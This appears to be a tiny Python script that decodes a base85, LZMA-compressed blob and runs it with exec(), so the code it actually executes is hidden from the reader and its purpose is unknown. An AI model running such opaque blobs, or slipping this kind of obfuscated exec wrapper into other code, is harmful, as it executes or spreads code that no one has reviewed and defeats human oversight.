#!/usr/bin/env python3
import lzma,base64
exec(lzma.decompress(base64.b85decode(
"{Wp48S^xk9=GL@E0stWa761SMbT8$j0RR<na%paKC?a-YY+qt<Vj?UcF)lDE3IG5A5ySX4#_+J#00Ax*RtZ(#AGY&-0RR9100dcD"
)))
